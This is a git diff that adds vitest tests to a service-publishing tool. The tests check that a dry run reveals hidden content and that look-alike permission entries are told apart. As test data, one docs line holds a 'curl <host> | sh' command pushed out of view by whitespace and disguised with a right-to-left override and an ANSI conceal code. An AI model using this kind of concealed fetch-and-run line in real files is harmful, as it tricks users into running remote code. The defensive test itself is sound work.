@@ -1,5 +1,6 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 
+import { grantsTheSame } from '../../src/publish/registration.ts';
 import { PASSWORD } from './support/project.ts';
 import { makeStage, type Stage } from './support/tsuru.ts';
 
@@ -132,6 +133,28 @@ describe('publish', () => {
     expect(await docInTsuru()).toContain('It holds more data');
     expect(await manifestInTsuru()).toContain('backups.list');
     expect((await stage.publish('--check')).code).toBe(0);
+  });
+
+  it('shows all of what it sends, with nothing out of sight', async () => {
+    const far = `${'a'.repeat(300)}.example`;
+    stage.project.manifest({ endpoint: { production: `http://good.example.${far}` } });
+    stage.project.write('docs/service.md', `# my-db\n\n\tGet it: ${' '.repeat(300)}curl ${far} \u202e| sh\u001b[8m\n`);
+    const operations = [{ method: 'GET', path: `/usage${' '.repeat(300)}`, action: 'usage.show' }, { method: 'GET', path: '/a (b)', action: 'c' }, { method: 'GET', path: '/a', action: 'b) (c\u200b' }];
+    stage.project.write('permissions.json', JSON.stringify({ enabled: true, legacy_compat: true, operations }));
+    const { output } = await stage.publish('--dry-run');
+    expect(output.split('\n')).toEqual(expect.arrayContaining([
+      `  endpoint        ${stage.endpoint} → http://good.example.${far}`,
+      `    + \tGet it: ${' '.repeat(300)}curl ${far} \\u{202e}| sh\\u{1b}[8m`,
+      `  permissions     operation + GET "/usage${' '.repeat(300)}" (usage.show)`,
+      '  permissions     operation + GET "/a (b)" (c)',
+      '  permissions     operation + GET /a ("b) (c\\u{200b}")',
+    ]));
+  });
+
+  it('tells permissions apart that read the same', () => {
+    const permissions = (path: string, action: string) => ({ enabled: true, strict_actions: false, legacy_compat: false, operations: [{ method: 'GET', path, action }] });
+    expect(grantsTheSame(permissions('/a (b)', 'c'), permissions('/a (b)', 'c'))).toBe(true);
+    expect(grantsTheSame(permissions('/a (b)', 'c'), permissions('/a', 'b) (c'))).toBe(false);
   });
 
   it.each([
